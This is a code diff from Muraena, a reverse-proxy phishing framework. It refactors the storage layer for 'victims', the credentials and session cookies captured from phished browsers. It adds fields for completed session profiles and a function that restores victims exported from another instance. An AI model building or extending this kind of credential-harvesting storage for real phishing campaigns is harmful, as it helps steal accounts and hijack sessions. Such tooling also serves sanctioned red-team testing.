@@ -1,12 +1,7 @@
 package db
 
 import (
-	"fmt"
-
-	"github.com/gomodule/redigo/redis"
-
 	"github.com/muraenateam/muraena/log"
-	"github.com/muraenateam/muraena/session"
 )
 
 // Victim: a browser that interacts with Muraena
@@ -22,6 +17,8 @@ type Victim struct {
 	CredsCount          int    `redis:"creds_count"`
 	CookieJar           string `redis:"cookiejar_id"`
 	SessionInstrumented bool   `redis:"session_instrumented"`
+	SessionComplete     string `redis:"session_complete"` // name of the session profile completed
+	Language            string `redis:"lang"`             // Accept-Language of the first request
 
 	Cookies     []VictimCookie     `redis:"-"`
 	Credentials []VictimCredential `redis:"-"`
@@ -34,6 +31,9 @@ type VictimCredential struct {
 	Key   string `redis:"key"`
 	Value string `redis:"val"`
 	Time  string `redis:"time"`
+
+	// sealed is set once the value is sealed with the storage public key
+	sealed bool
 }
 
 // VictimCookie a victim has N cookies associated with its web session
@@ -53,200 +53,46 @@ type VictimCookie struct {
 
 // Store saves a Victim in the database
 func (v *Victim) Store() error {
-
-	rc := session.RedisPool.Get()
-	defer rc.Close()
-
-	key := fmt.Sprintf("victim:%s", v.ID)
-	if _, err := rc.Do("HMSET", redis.Args{}.Add(key).AddFlat(v)...); err != nil {
-		log.Error("error doing redis HMSET: %s. victim not saved.", err)
-		return err
-	}
-
-	// push the Victim.ID
-	_, err := rc.Do("RPUSH", "victims", v.ID)
-	if err != nil {
-		return err
-	}
-
-	return nil
+	return backend.StoreVictim(v)
 }
 
 // Store saves a VictimCredential in the database
 func (vc *VictimCredential) Store(victimID string) error {
-
-	rc := session.RedisPool.Get()
-	defer rc.Close()
-
-	v, err := GetVictim(victimID)
-	if err != nil {
-		return err
-	}
-
-	// store the credentials
-	key := fmt.Sprintf("victim:%s:creds:%d", victimID, v.CredsCount)
-	if _, err := rc.Do("HMSET", redis.Args{}.Add(key).AddFlat(vc)...); err != nil {
-		log.Error("error doing redis HMSET: %s. victim creds not saved.", err)
-		return err
-	}
-
-	// increase the credentials count
-	// TODO implement this with REDIS HINCRBY
-	key = fmt.Sprintf("victim:%s", victimID)
-	increment := make(map[string]string)
-	increment["creds_count"] = fmt.Sprintf("%d", v.CredsCount+1)
-
-	if _, err := rc.Do("HMSET", redis.Args{}.Add(key).AddFlat(increment)...); err != nil {
-		log.Error("error doing redis HMSET: %s. victim creds not saved.", err)
-		return err
-	}
-
-	return nil
+	return backend.StoreCredential(victimID, vc)
 }
 
 // Store saves a Cookie in the database
 func (vc *VictimCookie) Store(victimID string) error {
-
-	rc := session.RedisPool.Get()
-	defer rc.Close()
-
-	key := fmt.Sprintf("victim:%s:cookiejar:%s", victimID, vc.Name)
-
-	jarEntry, err := redis.Values(rc.Do("HGETALL", key))
-	if err != nil {
-		return err
-	}
-
-	var vCookie VictimCookie
-	err = redis.ScanStruct(jarEntry, &vCookie)
-	if err != nil {
-		return err
-	}
-
-	// check if the cookie is already stored.
-	// if it is, just updates its values but do not add an entry to the cookie names list
-	if vCookie.Name == "" {
-		// store the cookie name only if not present already
-		_, err = rc.Do("RPUSH", fmt.Sprintf("victim:%s:cookiejar_entries", victimID), vc.Name)
-		if err != nil {
-			return err
-		}
-	}
-
-	if _, err := rc.Do("HMSET", redis.Args{}.Add(key).AddFlat(vc)...); err != nil {
-		return err
-	}
-
-	return nil
+	return backend.StoreCookie(victimID, vc)
 }
 
-// GetVictim returns a Victim from database
+// GetVictim returns a Victim from database, with its credentials and cookies.
+// If the victim does not exist, an empty Victim is returned.
 func GetVictim(victimID string) (*Victim, error) {
-	rc := session.RedisPool.Get()
-	defer rc.Close()
-
-	var v Victim
-	vid := fmt.Sprintf("victim:%s", victimID)
-	value, err := redis.Values(rc.Do("HGETALL", vid))
-	if err != nil {
-		return nil, err
-	}
-
-	err = redis.ScanStruct(value, &v)
-	if err != nil {
-		return nil, err
-	}
-
-	// Populate Credentials
-	err = v.GetCredentials()
-	if err != nil {
-		return nil, err
-	}
-
-	// Populate Cookies
-	err = v.GetVictimCookiejar()
-	if err != nil {
-		return nil, err
-	}
-
-	return &v, nil
+	return backend.GetVictim(victimID)
 }
 
 // GetCredentials returns a VictimCredential from database
-func (v *Victim) GetCredentials() error {
-	rc := session.RedisPool.Get()
-	defer rc.Close()
-
-	v.Credentials = []VictimCredential{}
-	cKeys, err := redis.Values(rc.Do("KEYS", fmt.Sprintf("victim:%s:creds:*", v.ID)))
-	if err != nil {
-		return err
-	}
-
-	for _, k := range cKeys {
-		creds, err := redis.Values(rc.Do("HGETALL", k))
-		if err != nil {
-			log.Error("%v", err)
-			continue
-		}
-
-		var vc VictimCredential
-		err = redis.ScanStruct(creds, &vc)
-		if err != nil {
-			log.Error("%v", err)
-			continue
-		}
-
-		v.Credentials = append(v.Credentials, vc)
-	}
-
-	return nil
+func (v *Victim) GetCredentials() (err error) {
+	v.Credentials, err = backend.GetCredentials(v.ID)
+	return
 }
 
 // GetVictimCookiejar returns a slice of VictimCookie associated to a victim
-func (v *Victim) GetVictimCookiejar() error {
-	rc := session.RedisPool.Get()
-	defer rc.Close()
-
-	v.Cookies = []VictimCookie{}
-
-	cKeys, err := redis.Values(rc.Do("KEYS", fmt.Sprintf("victim:%s:cookiejar:*", v.ID)))
-	if err != nil {
-		return err
-	}
-
-	for _, k := range cKeys {
-		cookies, err := redis.Values(rc.Do("HGETALL", k))
-		if err != nil {
-			log.Error("%v", err)
-			continue
-		}
-
-		var vc VictimCookie
-		err = redis.ScanStruct(cookies, &vc)
-		if err != nil {
-			log.Error("%v", err)
-			continue
-		}
-
-		v.Cookies = append(v.Cookies, vc)
-	}
-
-	return nil
+func (v *Victim) GetVictimCookiejar() (err error) {
+	v.Cookies, err = backend.GetCookies(v.ID)
+	return
 }
 
 // GetAllVictims returns all the victim IDs stored in the database
 func GetAllVictims() ([]Victim, error) {
-	rc := session.RedisPool.Get()
-	defer rc.Close()
-
-	values, err := redis.Strings(rc.Do("LRANGE", "victims", "0", "-1"))
+	ids, err := backend.GetVictimIDs()
 	if err != nil {
 		return nil, err
 	}
 
 	var victims []Victim
-	for _, vID := range values {
+	for _, vID := range ids {
 		v, err := GetVictim(vID)
 		if err != nil {
 			log.Error("error fetching victim %s: %s", vID, err)
@@ -259,15 +105,45 @@ func GetAllVictims() ([]Victim, error) {
 	return victims, nil
 }
 
+// SetSessionAsInstrumented records that the victim session has been instrumented via Necrobrowser
 func SetSessionAsInstrumented(victimID string) error {
-	rc := session.RedisPool.Get()
-	defer rc.Close()
+	return backend.SetSessionInstrumented(victimID)
+}
 
-	key := fmt.Sprintf("victim:%s", victimID)
-	if _, err := rc.Do("HSET", key, "session_instrumented", true); err != nil {
-		log.Error("error doing redis HSET: %s. session_instrumented field not saved.", err)
-		return err
+// SetSessionAsComplete records the session profile whose cookies have all been captured
+func SetSessionAsComplete(victimID string, profile string) error {
+	return backend.SetSessionComplete(victimID, profile)
+}
+
+// Restore stores a victim exported from another instance, with its credentials and cookies.
+// It returns false if the victim is already stored.
+func Restore(v Victim) (bool, error) {
+	stored, err := backend.GetVictim(v.ID)
+	if err != nil {
+		return false, err
+	}
+	if stored.ID != "" {
+		return false, nil
+	}
+
+	// The credentials count is increased as they are stored
+	credentials, cookies := v.Credentials, v.Cookies
+	v.CredsCount, v.Credentials, v.Cookies = 0, nil, nil
+	if err := backend.StoreVictim(&v); err != nil {
+		return false, err
+	}
+
+	for i := range credentials {
+		if err := backend.StoreCredential(v.ID, &credentials[i]); err != nil {
+			return false, err
+		}
+	}
+
+	for i := range cookies {
+		if err := backend.StoreCookie(v.ID, &cookies[i]); err != nil {
+			return false, err
+		}
 	}
 
-	return nil
+	return true, nil
 }